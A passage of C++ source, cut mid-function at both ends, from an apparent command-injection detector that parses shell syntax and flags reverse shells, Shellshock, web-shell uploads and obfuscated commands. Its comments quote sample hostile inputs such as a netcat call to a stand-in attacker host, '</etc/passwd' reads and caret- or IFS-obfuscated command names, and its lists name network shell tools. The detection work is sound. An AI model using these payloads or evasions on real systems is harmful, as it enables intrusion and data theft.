      if (w.plain_len > 0 && p + 1 < v.size() && (v[p + 1] == '\n' || v[p + 1] == '\r')) {
        p += v[p + 1] == '\r' && p + 2 < v.size() && v[p + 2] == '\n' ? 3 : 2;
        continue;
      }
      if (w.split_len < kMaxWord) w.split[w.split_len++] = '/';
      ++p;
      continue;
    }
    // cmd.exe's escape character between a name's letters ("w^h^o^a^m^i"):
    // cmd drops it, so the name only counts as a Windows command.
    if (c == '^' && w.plain_len > 0 && p + 1 < v.size() && IsAlnum(v[p + 1]) && IsAlnum(v[p - 1])) {
      w.caret = true;
      ++p;
      continue;
    }
    if (c == '?' || c == '*') w.glob = true;
    // A bracket expression of one letter or digit ("c[a]t") matches just
    // that byte: the name is the one spelled without brackets.
    if (c == '[' && p + 2 < v.size() && IsAlnum(v[p + 1]) && v[p + 2] == ']') {
      c = v[p + 1];
      p += 2;
    }
    if (w.plain_len >= kMaxWord || w.split_len >= kMaxWord) {
      w.too_long = true;
      ++p;
      continue;
    }
    if (c >= 'A' && c <= 'Z') {
      w.plain_upper |= uint64_t{1} << w.plain_len;
      w.split_upper |= uint64_t{1} << w.split_len;
    }
    w.plain[w.plain_len++] = Lower(c);
    w.split[w.split_len++] = Lower(c);
    ++p;
  }
  w.end = p;
  return w;
}

std::string_view BaseName(std::string_view s, std::string_view* dir) {
  size_t slash = s.rfind('/');
  if (slash == std::string_view::npos) {
    *dir = {};
    return s;
  }
  *dir = s.substr(0, slash + 1);
  return s.substr(slash + 1);
}

std::string_view StripExe(std::string_view s) {
  for (std::string_view ext : {".exe", ".com", ".bat", ".cmd"}) {
    if (s.size() > ext.size() && s.substr(s.size() - ext.size()) == ext) {
      return s.substr(0, s.size() - ext.size());
    }
  }
  return s;
}

// An interpreter or compiler named with its version ("python3.10", "php7.4",
// "gcc-12", "perl5.36"): the name less the version; otherwise empty.
std::string_view Unversioned(std::string_view name) {
  static constexpr std::string_view kVersioned[] = {"python", "perl", "php",  "ruby", "lua",
                                                    "node",   "gcc",  "java", "pip",  "tclsh"};
  size_t e = name.size();
  while (e > 0 && (IsDigit(name[e - 1]) || name[e - 1] == '.')) --e;
  if (e == name.size() || !IsDigit(name[e])) return {};
  if (e > 0 && name[e - 1] == '-') --e;
  const std::string_view base = name.substr(0, e);
  return scan::IEqualsAny(base, kVersioned) ? base : std::string_view();
}

// LookupCommand() for a name in any case, less an .exe-style extension when
// `strip_exe`; a name too long for the table is no command.
Tier LookupAnyCase(std::string_view name, bool strip_exe = false) {
  char buf[kCommandTable.kMaxWord];
  if (name.size() >= sizeof(buf)) return Tier::kNone;
  for (size_t k = 0; k < name.size(); ++k) buf[k] = Lower(name[k]);
  const std::string_view lowered(buf, name.size());
  return LookupCommand(strip_exe ? StripExe(lowered) : lowered);
}

bool IsBinDir(std::string_view dir) {
  // dir ends with '/'. "/bin/", "/usr/local/sbin/", "c:/windows/system32/".
  return scan::IEndsWith(dir, "/bin/") || scan::IEndsWith(dir, "/sbin/") ||
         scan::IEndsWith(dir, "system32/") || scan::IEndsWith(dir, "syswow64/") ||
         dir == "bin/" || dir == "sbin/";
}

struct Resolved {
  Tier tier = Tier::kNone;
  bool bin_dir = false;
  bool from_split = false;  // `name` points into Word::split, else Word::plain
  std::string_view name;
};

// True when the bytes of `part` (a view into `buf`) had an upper-case letter.
bool HadUpper(const char* buf, uint64_t upper, std::string_view part) {
  const size_t off = static_cast<size_t>(part.data() - buf);
  for (size_t k = off; k < off + part.size() && k < 64; ++k) {
    if ((upper >> k) & 1) return true;
  }
  return false;
}

Resolved ResolveWordAnyCase(const Word& w);

// The command a word names. A bare name written with capitals names a
// program only on Windows ("DIR", "WhoAmI"); a Unix shell looks names up
// case-sensitively, so "Ls" or "OD" is no command. An explicit binary
// directory ("/usr/bin/ID") is reported whatever the case.
Resolved ResolveWord(const Word& w) {
  Resolved r = ResolveWordAnyCase(w);
  if (r.tier == Tier::kNone || r.bin_dir) return r;
  const bool upper = r.from_split ? HadUpper(w.split, w.split_upper, r.name)
                                  : HadUpper(w.plain, w.plain_upper, r.name);
  if ((upper || w.caret) && !kWindowsCommandTable.Contains(r.name)) r.tier = Tier::kNone;
  return r;
}

Resolved ResolveWordAnyCase(const Word& w) {
  Resolved r;
  if (w.too_long || w.plain_len == 0) return r;
  std::string_view dir;
  std::string_view plain(w.plain, w.plain_len);
  std::string_view base = StripExe(BaseName(plain, &dir));
  r.tier = LookupCommand(base);
  if (r.tier == Tier::kNone) {
    const std::string_view unversioned = Unversioned(base);
    if (!unversioned.empty()) {
      base = unversioned;
      r.tier = LookupCommand(base);
    }
  }
  r.name = base;
  r.bin_dir = !dir.empty() && IsBinDir(dir);
  if (r.tier == Tier::kNone || (!dir.empty() && !r.bin_dir)) {
    std::string_view split(w.split, w.split_len);
    base = StripExe(BaseName(split, &dir));
    Tier t = LookupCommand(base);
    if (t != Tier::kNone && (dir.empty() || IsBinDir(dir))) {
      r.tier = t;
      r.name = base;
      r.from_split = true;
      r.bin_dir = !dir.empty();
    } else if (!dir.empty() && !r.bin_dir) {
      // "/api/users/id" is a URL path, not a command.
      r.tier = Tier::kNone;
    }
  }
  return r;
}

// Where the run of up to three operator bytes (';', '|', '&') at `p` ends.
size_t OperatorRunEnd(std::string_view v, size_t p) {
  size_t q = p;
  while (q < v.size() && q - p < 3 && (v[q] == ';' || v[q] == '|' || v[q] == '&')) ++q;
  return q;
}

// True when what follows the control operator at `p` (; | & and their
// doubled forms) can be the rest of a command line: nothing, a closing quote
// or parenthesis, a comment, a path, a variable, a redirection, or a command
// word (a known name, or a lower-case identifier such as "cd"). "id|6vJg" and
// "ls&Ay%^" are symbols in a random string, not a pipeline.
// `at_start`: the command starts the value, so there is no quote or
// parenthesis to close.
bool PlausibleAfterOperator(std::string_view v, size_t p, bool at_start) {
  size_t q = SkipBlanks(v, OperatorRunEnd(v, p));
  if (q >= v.size()) return true;
  const char c = v[q];
  if (c == '\'' || c == '"' || c == ')') return !at_start;
  if (c == '\n' || c == '\r' || c == '`' || c == '#' ||
      c == ';' || c == '|' || c == '&' || c == '/' || c == '.' || c == '~' || c == '$' ||
      c == '\\' || c == '%' || c == '<' || c == '>' || c == '{' || c == '(') {
    return true;
  }
  const Word w = ReadWord(v, q);
  if (ResolveWord(w).tier != Tier::kNone) return true;
  // "cat & dog", "rock | pop": one '&' or '|' between blanks joins two words
  // in prose; a value that opens with a command puts a command after it.
  if (at_start && p > 0 && IsBlank(v[p - 1]) && p + 1 < v.size() && IsBlank(v[p + 1]) &&
      (v[p] == '&' || v[p] == '|')) {
    return false;
  }
  if (w.too_long || w.plain_len == 0 || w.plain_upper != 0 || w.glob) return false;
  if (!(w.plain[0] >= 'a' && w.plain[0] <= 'z')) return false;
  for (size_t k = 0; k < w.plain_len; ++k) {
    const char x = w.plain[k];
    if (!(IsAlnum(x) || x == '_' || x == '-' || x == '.')) return false;
  }
  return true;
}

// True when, past blanks, `p` holds one to three of ';', '|', '&' and
// nothing but blanks follows them up to the end of the line or value.
bool OperatorEndsLine(std::string_view v, size_t p) {
  p = SkipBlanks(v, p);
  size_t q = OperatorRunEnd(v, p);
  if (q == p) return false;
  q = SkipBlanks(v, q);
  return q >= v.size() || v[q] == '\n' || v[q] == '\r';
}

// True when the redirection at `p` ('<' or '>') has a target a shell accepts
// and a person would write: a file name or path ("</etc/passwd",
// ">/tmp/x.sh"), a descriptor (">&2"), a process substitution ("<(id)"), or
// a here-string's word ("<<<id").
// ">at,gL[" in a random string is no file anyone writes to.
bool PlausibleRedirection(std::string_view v, size_t p) {
  size_t q = p;
  // A here-string ("cat<<<id", "sh<<<'id'") feeds the word after it to the
  // command: any word, quoted or not.
  if (v.compare(p, 3, "<<<") == 0) {
    q = SkipBlanks(v, p + 3);
    return q < v.size() && (IsAlnum(v[q]) || v[q] == '\'' || v[q] == '"' || v[q] == '$' ||
                            v[q] == '/' || v[q] == '`' || v[q] == '.' || v[q] == '~' ||
                            v[q] == '-');
  }
  while (q < v.size() && q - p < 2 && (v[q] == '<' || v[q] == '>')) ++q;
  if (q < v.size() && v[q] == '(') return true;
  if (q < v.size() && v[q] == '|') ++q;  // >| overrides noclobber
  if (q < v.size() && v[q] == '&') {
    ++q;
    return q < v.size() && (IsDigit(v[q]) || v[q] == '-');
  }
  q = SkipBlanks(v, q);
  const size_t t0 = q;
  while (q < v.size() && q - t0 < kMaxWordScan &&
         (IsAlnum(v[q]) || v[q] == '.' || v[q] == '_' || v[q] == '/' || v[q] == '~' ||
          v[q] == '$' || v[q] == '\\' || v[q] == '-' || v[q] == '%' || v[q] == ':' ||
          v[q] == '{' || v[q] == '}')) {
    ++q;
  }
  if (q == t0) return false;
  return q >= v.size() || IsBlank(v[q]) || v[q] == ';' || v[q] == '|' || v[q] == '&' ||
         v[q] == ')' || v[q] == '`' || v[q] == '\n' || v[q] == '\r' || v[q] == '\'' ||
         v[q] == '"' || v[q] == '<' || v[q] == '>';
}

// Whether the number at `p` ("5", "0.5", "10s") is followed by a word of
// letters that is not a command ("5 minutes", "3 times").
bool CountThenProseWord(std::string_view v, size_t p) {
  while (p < v.size() && (IsDigit(v[p]) || v[p] == '.')) ++p;
  if (p < v.size() && IsAlpha(v[p]) && (p + 1 == v.size() || !IsAlnum(v[p + 1]))) ++p;  // 10s
  if (p >= v.size() || !IsBlank(v[p])) return false;
  p = SkipBlanks(v, p);
  constexpr size_t kMaxLetters = 16;
  size_t e = p;
  while (e < v.size() && IsAlpha(v[e]) && e - p < kMaxLetters) ++e;
  if (e - p < 2 || e - p >= kMaxLetters ||
      (e < v.size() && !IsBlank(v[e]) && v[e] != ',' && v[e] != '.')) {
    return false;
  }
  return LookupAnyCase(v.substr(p, e - p)) == Tier::kNone;
}

// Tools whose first operand names an action: "net user", "git clone",
// "docker run". After such a command, the action makes the line a command
// line as a path or an option does ("; git clone https://..." but not "; git
// is great").
struct Action {
  std::string_view command;
  std::string_view action;
};
constexpr Action kActions[] = {
    {"reg", "add"},      {"reg", "query"},   {"reg", "delete"},     {"reg", "save"},
    {"reg", "export"},   {"net", "user"},    {"net", "localgroup"}, {"net", "view"},
    {"net", "share"},    {"net", "use"},     {"net", "group"},      {"git", "clone"},
    {"git", "pull"},     {"git", "push"},    {"git", "config"},     {"git", "checkout"},
    {"docker", "run"},   {"docker", "exec"}, {"docker", "cp"},      {"docker", "pull"},
    {"npm", "install"},  {"npm", "exec"},    {"npm", "run"},        {"pip", "install"},
    {"pip", "download"}, {"apt", "install"}, {"apt", "remove"},
    // The AWS CLI's services that read credentials, secrets and data.
    {"aws", "s3"},       {"aws", "s3api"},   {"aws", "sts"},        {"aws", "ssm"},
    {"aws", "secretsmanager"}, {"aws", "iam"}, {"aws", "ec2"},      {"aws", "kms"},
    {"aws", "configure"}, {"aws", "dynamodb"},
};

// Tools a README or a package registry tells its reader to run.
bool IsDeveloperTool(std::string_view command) {
  return command == "git" || command == "docker" || command == "npm" || command == "pip" ||
         command == "apt" || command == "aws";
}

bool IsActionOf(std::string_view command, std::string_view word) {
  for (const Action& a : kActions) {
    if (a.command == command && scan::IEquals(word, a.action)) return true;
  }
  return false;
}

// The shape of what follows a command word at `p`. `at_start`: the word
// starts the value, so there is no quote or parenthesis for a following
// one to close.
// Whether the value is the name an upload is stored under: a multipart
// part's file name ("body.<field>.filename"), a JSON upload request's
// "filename", or the header some upload APIs take it from (X-File-Name).
bool IsUploadNameField(const Input& in) {
  const std::string_view name = scan::LastPathName(in.path);
  if (in.location == event::Location::kBody) {
    return scan::IEqualsAny(name, {"filename", "file_name"});
  }
  return in.location == event::Location::kHeader &&
         scan::IEqualsAny(name, {"x-filename", "x-file-name", "x_filename"});
}

// Whether a file name ends in an extension a web server runs as code
// ("shell.php", "x.aspx", "a.jsp") or names server configuration
// (".htaccess", ".user.ini", "web.config"), or carries a PHP extension
// before another one ("x.php.jpg", which Apache's AddHandler runs). Windows
// drops trailing dots and blanks and reads "::$DATA" as the file itself, so
// those are cut first.
bool ScriptUploadName(std::string_view v) {
  const size_t slash = v.find_last_of("/\\");
  std::string_view name = slash == std::string_view::npos ? v : v.substr(slash + 1);
  if (name.size() > 255) return false;
  if (scan::IEndsWith(name, "::$data")) name.remove_suffix(7);
  while (!name.empty() && (name.back() == '.' || name.back() == ' ')) name.remove_suffix(1);
  if (scan::IEqualsAny(name, {".htaccess", ".user.ini", "web.config"})) return true;
  // (Not .shtml, .cer or .phps: server-side includes are rarely on, a
  // certificate is an ordinary upload, and .phps shows a script's source.)
  static constexpr std::string_view kServerScripts[] = {
      "php", "php3", "php4", "php5", "php7", "php8", "phtml", "phar", "pht",
      "asp", "aspx", "asa",  "ashx", "asmx", "jsp",  "jspx",  "jsw",  "cfm",
  };
  const size_t first_dot = name.find('.');
  if (first_dot == std::string_view::npos || first_dot == 0) return false;
  for (size_t dot = name.find('.', first_dot); dot != std::string_view::npos;) {
    const size_t next = name.find('.', dot + 1);
    const std::string_view ext =
        name.substr(dot + 1, (next == std::string_view::npos ? name.size() : next) - dot - 1);
    if (next == std::string_view::npos) return scan::IEqualsAny(ext, kServerScripts);
    if (scan::IAt(ext, 0, "ph") && scan::IEqualsAny(ext, kServerScripts)) return true;
    dot = next;
  }
  return false;
}

// Tools whose first operand is a host to connect to or look up.
bool IsNetworkTool(std::string_view command) {
  return scan::IEqualsAny(command, {"nc", "ncat", "netcat", "socat", "telnet", "dig", "nslookup",
                                    "host", "ping", "ping6", "curl", "wget", "ssh", "scp", "ftp",
                                    "tftp", "whois", "traceroute", "tracert"});
}

// Whether a host name or an IPv4 address ("attacker.example", "10.0.0.5",
// "x.oast.example:8080") starts at `p`: letters, digits, '-' and dots, with
// a dot inside, then a port, a blank, an operator or the end.
bool IsHostArgument(std::string_view v, size_t p) {
  size_t e = p;
  size_t dots = 0;
  while (e < v.size() && e - p < 254 && (IsAlnum(v[e]) || v[e] == '-' || v[e] == '.')) {
    dots += v[e] == '.';
    ++e;
  }
  if (dots == 0 || v[p] == '.' || v[p] == '-' || v[e - 1] == '.' || v[e - 1] == '-') return false;
  if (e < v.size() && v[e] == ':') {
    ++e;
    const size_t port = e;
    while (e < v.size() && e - port < 5 && IsDigit(v[e])) ++e;
    if (e == port) return false;
  }
  return e == v.size() || IsBlank(v[e]) || v[e] == ';' || v[e] == '|' || v[e] == '&' ||
         v[e] == '\n' || v[e] == '`';
}

ArgShape ClassifyArg(std::string_view v, size_t p, std::string_view command, bool at_start) {
  // "cat${IFS}x": a blank spelled as an expansion is the shell's alone.
  size_t b = p;
  while (b < v.size() && IsBlank(v[b])) ++b;
  const bool ifs_blank = IfsLength(v, b) > 0;
  p = SkipBlanks(v, p);
  if (p >= v.size()) return ArgShape::kEnd;
  char c = v[p];
  if (c == '\n' || c == '\r' || IsLiteralLineBreak(v, p)) return ArgShape::kLineEnd;
  if (c == ';' || c == '|' || c == '&') {
    return PlausibleAfterOperator(v, p, at_start) ? ArgShape::kSeparator : ArgShape::kInvalid;
  }
  if (c == '`' || c == '#') return ArgShape::kSeparator;
  if (c == '(') return IsPowerShellCommand(command) ? ArgShape::kShell : ArgShape::kInvalid;
  if (c == ')' || c == '\'' || c == '"') {
    // A quote right after the command closes the injected string: "';id'".
    return at_start ? ArgShape::kInvalid : ArgShape::kSeparator;
  }
  if (c == '-' && p + 1 < v.size() && (IsAlnum(v[p + 1]) || v[p + 1] == '-')) {
    return ArgShape::kShell;
  }
  if (c == '>' || c == '<') {
    return PlausibleRedirection(v, p) ? ArgShape::kShell : ArgShape::kInvalid;
  }
  // A redirection of a numbered descriptor ("2>&1", "2>/dev/null").
  if (IsDigit(c) && p + 1 < v.size() && v[p + 1] == '>' && PlausibleRedirection(v, p + 1)) {
    return ArgShape::kShell;
  }
  if (ifs_blank) return ArgShape::kShell;
  if (c == '/' || c == '\\' || c == '~' || c == '$' || c == '%' || c == '*' || c == '{') {
    return ArgShape::kShell;
  }
  if (c == '.' && p + 1 < v.size() && (v[p + 1] == '/' || v[p + 1] == '.')) {
    return ArgShape::kShell;
  }
  if (IsAlpha(c) && p + 2 < v.size() && v[p + 1] == ':' && (v[p + 2] == '\\' || v[p + 2] == '/')) {
    return ArgShape::kShell;  // c:\ or c:/
  }
  if (IsAlpha(c) && p + 1 < v.size() && v[p + 1] == ':' &&
      (p + 2 == v.size() || IsBlank(v[p + 2]) || v[p + 2] == ';' || v[p + 2] == '|' ||
       v[p + 2] == '&')) {
    return ArgShape::kShell;  // a drive alone: "dir c:"
  }
  // A count, a process id, a port, or the number a probe echoes back to
  // find in the response (";echo 111111").
  if (IsDigit(c) && (command == "sleep" || command == "ping" || command == "timeout" ||
                     command == "kill" || command == "nc" || command == "ncat" ||
                     command == "echo" || command == "expr")) {
    // A value that opens "sleep 5 minutes, then ..." or "ping 3 times" is
    // prose: a count followed by a word that is no command.
    // "echo" is a word too ("Rated 5; echo 5 stars"): its number must not
    // be a count of something anywhere.
    return (at_start || command == "echo" || command == "expr") && CountThenProseWord(v, p)
               ? ArgShape::kWordy
               : ArgShape::kShell;
  }
  // An arithmetic expansion inside the argument ("cmdi$((1337*3))"): the
  // shell's alone.
  for (size_t k = p; k < v.size() && k - p < 64 && !IsBlank(v[k]); ++k) {
    if (v[k] == '$' && v.compare(k + 1, 2, "((") == 0) return ArgShape::kShell;
  }
  // A host a network tool is pointed at ("| nc attacker.example 4444").
  // (Opening the value it is an instruction: "ping example.com".)
  if (!at_start && IsNetworkTool(command) && IsHostArgument(v, p)) return ArgShape::kShell;
  // A URL argument ("curl http://x") or "net user".
  size_t e = p;
  while (e < v.size() && e - p < 16 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
  if (IAt(v, e, "://")) return ArgShape::kShell;
  std::string_view next = v.substr(p, e - p);
  if ((command == "which" || command == "whereis") && e - p < 16 &&
      LookupAnyCase(next) != Tier::kNone) {
    return ArgShape::kShell;
  }
  // A developer tool's action opening the whole value is an instruction
  // ("npm install left-pad", "docker pull ghcr.io/acme/app:1.2", as package
  // registries and READMEs give them), not a command line a request sends;
  // after a separator it is one ("; git clone https://...").
  if (IsActionOf(command, next)) {
    return at_start && IsDeveloperTool(command) ? ArgShape::kWordy : ArgShape::kShell;
  }
  // name=/path, name=~/x, name=$VAR: an operand in the form dd and make take
  // ("dd if=/dev/zero").
  if (e > p && e + 1 < v.size() && v[e] == '=' &&
      (v[e + 1] == '/' || v[e + 1] == '~' || v[e + 1] == '$')) {
    return ArgShape::kShell;
  }
  // A file name with an extension ("cat index.php", "type win.ini").
  // ("18.x" is a version range.)
  if (e < v.size() && v[e] == '.' && e + 1 < v.size() && IsAlpha(v[e + 1])) {
    size_t x = e + 1;
    while (x < v.size() && IsAlnum(v[x])) ++x;
    const bool version = x == e + 2 && Lower(v[e + 1]) == 'x' &&
                         std::all_of(v.begin() + p, v.begin() + e, IsDigit);
    if (x - e - 1 <= 4 && (x >= v.size() || !IsAlnum(v[x])) && !version) {
      return ArgShape::kShell;
    }
  }
  return ArgShape::kWordy;
}

bool Decide(Context ctx, Tier tier, ArgShape arg) {
  if (arg == ArgShape::kInvalid) return false;
  switch (ctx) {
    case Context::kSubstitution:
      return tier == Tier::kTool || tier == Tier::kShort || arg != ArgShape::kWordy;
    case Context::kStrong:
      if (tier == Tier::kTool) return true;
      if (tier == Tier::kShort) return arg != ArgShape::kWordy;
      return arg == ArgShape::kShell;
    case Context::kWeak:
    case Context::kCodeSpan:
      if (tier == Tier::kTool) return arg != ArgShape::kWordy;
      return arg == ArgShape::kShell;
    case Context::kStart:
      return arg == ArgShape::kShell ||
             (tier != Tier::kWord && (arg == ArgShape::kSeparator || arg == ArgShape::kLineEnd));
  }
  return false;
}

// True when v[0, end) is one operand as a command takes it: a host, an
// address, a number or a version ("127.0.0.1", "example.com", "8080",
// "::1"), with no blank in it. Such a value is what the application puts on
// a command line ("ping <value>"), so a separator right after it starts a
// command even where a word before it would read as prose ("127.0.0.1 | id",
// "127.0.0.1\nid").
bool IsLoneOperand(std::string_view v, size_t end) {
  // (Bounded: a separator is checked at every position of a long value.)
  if (end > 256) return false;
  size_t b = 0;
  while (b < end && scan::IsSpace(v[b])) ++b;
  if (b == end) return false;
  bool digits = true;  // all digits so far
  for (size_t k = b; k < end; ++k) {
    const char c = v[k];
    if (c == '.' || c == ':') {
      for (size_t j = k; j < end; ++j) {
        const char d = v[j];
        if (!(IsAlnum(d) || d == '.' || d == ':' || d == '-' || d == '_')) return false;
      }
      return true;
    }
    if (!IsAlnum(c) && c != '-' && c != '_') return false;
    digits = digits && IsDigit(c);
  }
  return digits;
}

// True when the line around `pos` is a markdown table row ("| a | b |").
bool InTableRow(std::string_view v, size_t pos) {
  size_t ls = v.rfind('\n', pos);
  ls = ls == std::string_view::npos ? 0 : ls + 1;
  size_t le = v.find('\n', pos);
  if (le == std::string_view::npos) le = v.size();
  std::string_view line = v.substr(ls, le - ls);
  while (!line.empty() && scan::IsSpace(line.front())) line.remove_prefix(1);
  while (!line.empty() && scan::IsSpace(line.back())) line.remove_suffix(1);
  if (line.size() < 5 || line.front() != '|' || line.back() != '|') return false;
  return std::count(line.begin(), line.end(), '|') >= 3 &&
         scan::Find(line, " | ") != std::string_view::npos;
}

// Where the markdown code fence that starts at `p` ends, or 0: three or
// more backticks that open a line (after at most three spaces), then an
// optional info string ("ruby", "c++", " bash", "bash npm2yarn": the rest of
// the line, without a backtick, CommonMark's rule) and the end of the line or
// value. "```id```" is no fence.
size_t MarkdownFenceAt(std::string_view v, size_t p) {
  size_t b = p;
  while (b > 0 && p - b < 4 && v[b - 1] == ' ') --b;
  if (b > 0 && v[b - 1] != '\n' && v[b - 1] != '\r') return 0;
  if (p - b > 3) return 0;
  size_t e = p;
  while (e < v.size() && v[e] == '`') ++e;
  if (e - p < 3) return 0;
  size_t k = e;
  while (k < v.size() && k - e < 64 && v[k] != '`' && v[k] != '\n' && v[k] != '\r') ++k;
  return k == v.size() || v[k] == '\n' || v[k] == '\r' ? e : 0;
}

// Where the fence that closes a block opened by `run` backticks ends, the
// block's text starting at `from`; npos when none does: a line of at least
// `run` backticks and nothing else.
size_t ClosingFenceAfter(std::string_view v, size_t from, size_t run) {
  const std::string_view fence = "```";
  for (size_t k = scan::Find(v, fence, from); k != std::string_view::npos;
       k = scan::Find(v, fence, k + 1)) {
    const size_t e = MarkdownFenceAt(v, k);
    if (e == 0 || e - k < run) continue;
    const size_t after = SkipBlanks(v, e);
    if (after == v.size() || v[after] == '\n' || v[after] == '\r') return e;
    k = e - 1;
  }
  return std::string_view::npos;
}

// True when `v` reads as prose around its code spans: at least four words
// of two or more letters stand outside the backtick pairs. The spans of such
// a value are inline code of documentation, an issue or a chat message
// ("Use `grep -r TODO src/` to find them"), not commands the value runs. An
// unclosed backtick's tail counts as inside a span.
// Markdown's own marks (bold, a quote, a heading or a list item at the
// start) lower that to three words ("> **Note**: run `npm test` first").
bool ProseAroundCodeSpans(std::string_view v) {
  const bool markdown = v.find("**") != std::string_view::npos || v.starts_with("> ") ||
                        v.starts_with("# ") || v.starts_with("- ");
  const int kMinWords = markdown ? 3 : 4;
  int words = 0;
  bool in_span = false;
  size_t letters = 0;
  for (char c : v) {
    if (c == '`') {
      in_span = !in_span;
      letters = 0;
      continue;
    }
    if (in_span) continue;
    if (IsAlpha(c)) {
      if (++letters == 2 && ++words >= kMinWords) return true;
    } else {
      letters = 0;
    }
  }
  return false;
}

class CmdiImpl final : public Detector {
 public:
  DetectorId id() const override { return DetectorId::kCmdi; }

  bool Inspect(const Input& in, Match* m) const override {
    if (in.IsObjectKey()) return false;
    std::string_view v = in.norm;
    if (v.size() < 2) return false;
    if (in.mask.Has('.') && IsUploadNameField(in) && ScriptUploadName(v)) {
      return FillMatch(m, "cmdi.script_upload",
                       "An uploaded file is named as a server-side script or server "
                       "configuration (a web shell once the server runs it)",
                       80, 0, v.size());
    }
    if (in.mask.Has('<') && InspectSsi(v, m)) return true;
    if (in.mask.Has('(') && in.mask.Has('{')) {
      size_t p = FindFunctionDefinition(v);
      if (p != std::string_view::npos) {
        return FillMatch(m, "cmdi.shellshock",
                         "Bash function definition in a value (Shellshock, CVE-2014-6271)", 95, p,
                         8);
      }
      size_t len = 0;
      p = in.mask.Has('}') ? FindFunctionRun(v, &len) : std::string_view::npos;
      if (p != std::string_view::npos) {
        return FillMatch(m, "cmdi.function_run",
                         "a shell function is defined and then run (a fork bomb when it calls "
                         "itself)",
                         85, p, len);
      }
    }
    // LaTeX's shell escape: "\write18{id}" (often "\immediate\write18").
    if (in.mask.Has('\\') && in.mask.Has('{')) {
      for (size_t p = v.find('\\'); p != std::string_view::npos; p = v.find('\\', p + 1)) {
        if (!IAt(v, p + 1, "write18")) continue;
        const size_t b = SkipBlanks(v, p + 8);
        if (b + 1 < v.size() && v[b] == '{' && v[b + 1] != '}') {
          return FillMatch(m, "cmdi.latex_shell_escape",
                           "LaTeX \\write18: runs its argument as a shell command", 90, p,
                           b + 1 - p);
        }
      }
    }
    static constexpr uint64_t kDevTcp = CharMask::AlnumOf("devtcp");
    static constexpr uint64_t kDevUdp = CharMask::AlnumOf("devudp");
    if (in.mask.Has('/') && (in.mask.HasAlnumOf(kDevTcp) || in.mask.HasAlnumOf(kDevUdp))) {
      size_t p = scan::IFind(v, "/dev/tcp/");
      if (p == std::string_view::npos) p = scan::IFind(v, "/dev/udp/");
      if (p != std::string_view::npos) {
        return FillMatch(m, "cmdi.reverse_shell",
                         "Bash /dev/tcp redirection used for reverse shells", 90, p, 9);
      }
    }
    // (A quote with ':' may open a remote include, with '/' or '\\' a
    // server path's.)
    if ((in.mask.Has('(') || in.mask.Has('$') || (in.mask.Has('=') && in.mask.Has('_')) ||
         (in.mask.HasAny(":/\\") && in.mask.HasAny("'\""))) &&
        InspectCodeExec(v, in.mask, m)) {
      return true;
    }
    if (InspectBatchControl(v, in.mask, m)) return true;
    // A match in the raw value has no place in the normalized one: the
    // whole value (up to the match's length) is reported.
    const auto found_in_raw = [&] {
      if (in.raw.data() != v.data()) {
        m->offset = 0;
        m->length = std::min(m->length, v.size());
      }
      return true;
    };
    // Read in the raw value: "%PATH:~0,1%12" is no percent escape to cmd.exe.
    if (in.mask.Has('~') && in.mask.Has(':') && VariableSubstring(in.raw, m)) {
      return found_in_raw();
    }
    if (in.mask.Has('[') && in.mask.Has(']') && in.mask.Has(':') && PowerShellStaticCall(v, m)) {
      return true;
    }
    if (in.mask.Has('{') && in.mask.Has('-') && in.mask.HasAny("'\"") &&
        PowerShellFormatPieces(v, m)) {
      return true;
    }
    // (Every alias command holds "al", both runners "iex"; the alias is
    // used after a ';' or a line break.)
    static constexpr uint64_t kComSpecNeeds = CharMask::AlnumOf("envcomspec");
    static constexpr uint64_t kAliasNeeds = CharMask::AlnumOf("aliex");
    static constexpr uint64_t kPerl5OptNeeds = CharMask::AlnumOf("PERL5OPT");
    if (in.mask.Has('$') && in.mask.Has(':') && in.mask.HasAlnumOf(kComSpecNeeds) &&
        EnvComSpecCall(v, m)) {
      return true;
    }
    // (Every name but PERL5OPT holds '_'.)
    if (in.mask.Has('=') && (in.mask.Has('_') || in.mask.HasAlnumOf(kPerl5OptNeeds)) &&
        EnvironmentInjection(v, m)) {
      return true;
    }
    if ((in.mask.Has(';') || in.mask.has_control) && in.mask.HasAlnumOf(kAliasNeeds) &&
        AliasedInvokeExpression(v, m)) {
      return true;
    }
    if (in.mask.Has('%') && in.mask.HasAny("&|") && VariablesAsCommand(v, m)) return true;
    if (((in.mask.Has('|') && in.mask.Has('\'') && in.mask.Has('!')) || in.mask.Has('(')) &&
        in.mask.HasAny("=+-@") && DdeFormula(v, m)) {
      return true;
    }
    // Read in the raw value: normalizing decodes the escapes.
    if (in.mask.Has('$') && in.mask.Has('\'') && AnsiCCommand(in.raw, m)) return found_in_raw();
    static constexpr uint64_t kPhp = CharMask::AlnumOf("php");
    if (in.mask.HasAlnumOf(kPhp) && in.mask.HasAny("_/") && InspectPhpHandler(v, in.mask, m)) {
      return true;
    }
    if (in.mask.Has('-') && in.mask.Has('/') && SendmailLogOption(v, m)) return true;
    if (in.mask.Has('>') && in.mask.Has('/') && RedirectionIntoServerFile(v, m)) return true;
    // An option follows a blank or opens the value.
    if (in.mask.Has('-') && !v.empty() &&
        (in.mask.Has(' ') || in.mask.has_control || v[0] == '-' ||
         (in.mask.Has(':') && in.mask.Has('/'))) &&
        ArgumentInjection(v, m)) {
      return true;
    }
    // The last ')' tells in O(1) whether a '(' opened at some position is
    // closed later: "$(id" and "(id" are syntax errors, not commands.
    const size_t last_paren = in.mask.Has(')') ? v.rfind(')') : std::string_view::npos;
    int run_checks = 8;
    if (CommandLiteral(v, in.mask, last_paren, m)) return true;
    // Command at the start of the value; a leading quote or parenthesis means
    // the value breaks out of a quoted string first ("' whoami").
    {
      size_t s0 = 0;
      while (s0 < v.size() && s0 < 8 && (v[s0] == '\'' || v[s0] == '"' || v[s0] == ')')) ++s0;
      if (CheckPosition(v, s0, s0 > 0 ? Context::kStrong : Context::kStart, m, false,
                        last_paren, &run_checks)) {
        return true;
      }
    }
    // (Newlines are control bytes: has_control; "\\n" escapes need a backslash.)
    if (!in.mask.HasAny(";|&`${<>\\") && !in.mask.has_control) return false;
    size_t table_line_checked_upto = 0;
    bool table_line = false;
    bool open_backtick = false;
    bool unclosed_fence = false;
    // Inside a code span of a value that reads as prose (see
    // ProseAroundCodeSpans(), decided at the first such span).
    bool in_doc_span = false;
    int prose = -1;  // unknown until a span is met
    // The last line break's walk back over white space: from, to.
    size_t break_walk_from = std::string_view::npos, break_walk_to = 0;
    // A substitution runs only when it is closed: "`id" and "$(id" are
    // syntax errors, not commands. The last '`' and ')' tell in O(1)
    // whether a later one exists.
